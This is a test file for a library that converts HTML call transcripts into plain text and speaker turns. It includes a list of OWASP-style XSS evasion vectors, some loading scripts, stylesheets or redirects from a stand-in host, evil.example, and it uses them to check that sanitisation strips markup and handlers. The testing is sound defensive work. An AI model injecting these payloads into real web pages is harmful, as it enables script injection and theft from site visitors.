import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { deriveTranscript } from '#core/calls/transcript/derive-transcript.ts'
import { paragraphsOfHtml, plainText } from '#core/calls/transcript/html-text.ts'

describe('a transcript in HTML', () => {
  test.each([
    ['<p><strong>Jane Doe:</strong> Revenue &amp; margin.</p><p>Next.</p>', ['Jane Doe: Revenue & margin.', 'Next.']],
    ['One<br>two<br/>three', ['One', 'two', 'three']],
    ['<div>Grew\n by <b>5</b>%</div>', ['Grew by 5%']],
    ['<ul><li>First<li>Second</ul>', ['First', 'Second']],
    ['a &lt;b&gt; c &#x27;d&#39; &hellip;', ["a <b> c 'd' …"]],
    ['It was <inaudible> and <unk> loud', ['It was <inaudible> and <unk> loud']],
    ['5 < 6 and 7 > 6', ['5 < 6 and 7 > 6']],
    ['<table><tr><td>A</td><td>B</td></tr></table>', ['A B']],
    ['مرحبا <b>بكم</b> 👋🏽 決算', ['مرحبا بكم 👋🏽 決算']],
  ])('%s is read as text', (html, paragraphs) => {
    expect(paragraphsOfHtml(html)).toEqual(paragraphs)
  })

  /** OWASP's filter evasion list, and what parsers disagree about. */
  const vectors = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img """><script>alert("XSS")</script>"\\>',
    '<svg onload=alert(1)><desc>alert(2)</desc></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<iframe src="javascript:alert(1)">alert(2)</iframe>',
    '<a href="javascript:alert(1)" onclick="alert(2)"></a>',
    '<body onload=alert(1)>',
    '<style>@import "https://evil.example/alert.css";</style>',
    '<link rel=stylesheet href=https://evil.example/alert.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/alert">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><script>alert(1)</script></textarea>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<audio src="https://evil.example/a.mp3" onerror=alert(1)>alert</audio>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<marquee onstart=alert(1)></marquee><details open ontoggle=alert(1)></details>',
    '<form action=https://evil.example/alert><button formaction=javascript:alert(1)></button></form>',
    '<base href="https://evil.example/alert/">',
    '<x-alert onfocus=alert(1) tabindex=1 autofocus></x-alert>',
  ]

  test.each(vectors)('%s leaves no markup, no address and no handler', (vector) => {
    const [text = ''] = [`<p>Before ${vector} after</p>`].map(plainText)
    expect(text).toMatch(/^Before/)
    expect(text).not.toMatch(
      /<\s*\/?\s*(?:script|img|svg|iframe|a|body|style|link|meta|object|form|base|audio|math|template)\b/i,
    )
    expect(text).not.toMatch(/onerror|onload|onclick|onfocus|evil\.example|javascript:/i)
  })

  test('whatever comes, reading it ends, and no element of HTML is left in it (R1)', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '/',
      '"',
      "'",
      '=',
      '&',
      ';',
      '#',
      '!',
      '--',
      'script',
      'img ',
      'p',
      'style',
      'onerror',
      'x',
      ' ',
      '\n',
      '\u0000',
      'é',
      '👋',
      '<script>',
      '</script>',
      '<style ',
      '<img src=x onerror=',
      '<p>',
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
        expect(plainText(parts.join(''))).not.toMatch(/<\/?(script|img|style|p)\b[^<]*>/i)
      }),
    )
  })

  test.each([
    ['a document’s head', '<html><head><title>Call</title><meta charset=utf-8></head><body>Hello', ['Hello']],
    ['a head that is never closed', '<head><style>p {}</style><body>Hello', ['Hello']],
    ['a list of choices that its paragraph closes', '<p>Before <select><option>a</p>after', ['Before', 'after']],
    ['an object in an object', 'a<object>b<object>c</object>d</object>e', ['ae']],
    ['a drawing', 'a<svg><g/><title>b</title>c<path/></svg>d', ['ad']],
    ['an embedded file', 'a<embed src=x>b', ['ab']],
    ['closing tags of nothing', 'a</b></p>b</object>c', ['a', 'bc']],
    ['capitals', '<P>a<SCRIPT>b</SCRIPT>c<BR>d', ['ac', 'd']],
    ['an entity that is a line feed', 'a&#10;b', ['a b']],
    ['an entity beyond the first plane', '&#x1F44B;', ['👋']],
  ])('%s keeps the spoken words', (_, html, paragraphs) => {
    expect(paragraphsOfHtml(html)).toEqual(paragraphs)
  })

  // A megabyte each. A reader that searches its open elements at each tag takes minutes over one of them, and no other request gets a response.
  test.each([
    ['nested', (count: number) => `${'<div>'.repeat(count)}said`],
    ['nested and closed', (count: number) => `${'<b>'.repeat(count)}said${'</b>'.repeat(count)}`],
    ['closed by others', (count: number) => `${'<b><i>'.repeat(count)}said${'</b></i>'.repeat(count)}`],
    ['nested within what is dropped', (count: number) => `<object>${'<b>'.repeat(count)}</object>said`],
    ['closed without being open', (count: number) => `${'<b>'.repeat(count)}${'</i>'.repeat(count)}said`],
    ['nested in a drawing', (count: number) => `<svg>${'<g>'.repeat(count)}</svg>said`],
  ])('elements %s a hundred thousand times cost no word', (_, html) => {
    expect(paragraphsOfHtml(html(100_000))).toEqual(['said'])
  })

  test('maps to the same turns as its JSON: by name, each with its words', () => {
    const html =
      '<h1>Transcript</h1><p><b>Jane Doe:</b> Hello.</p><p>And more.</p><p><b>John Roe:</b> Bye &amp; thanks.</p>'
    const { said, people, speakerOf } = deriveTranscript(
      { transcripts: [{ text: html, segments: null }] },
      { format: 'html' },
    )
    expect(said.source).toBe('paragraphs')
    expect(said.turns.map(({ text }, at) => [people[speakerOf[at] ?? -1]?.name, text])).toEqual([
      ['Unknown speaker', 'Transcript'],
      ['Jane Doe', 'Hello.'],
      ['Jane Doe', 'And more.'],
      ['John Roe', 'Bye & thanks.'],
    ])
  })

  test('with segments keeps their times; the plain form is never read as HTML', () => {
    const segments = [
      { segment_id: 4, speaker: 'Jane <b>Doe</b>', start_time: '1', end_time: '2', text: 'a &amp; <i>b</i>' },
    ]
    const call = { transcripts: [{ text: '', segments }] }
    expect(deriveTranscript(call, { format: 'html' }).said.turns).toMatchObject([
      { segmentId: 4, speaker: 'Jane Doe', start: 1, text: 'a & b' },
    ])
    expect(deriveTranscript(call, { format: 'json' }).said.turns[0]?.text).toBe('a &amp; <i>b</i>')
  })
})
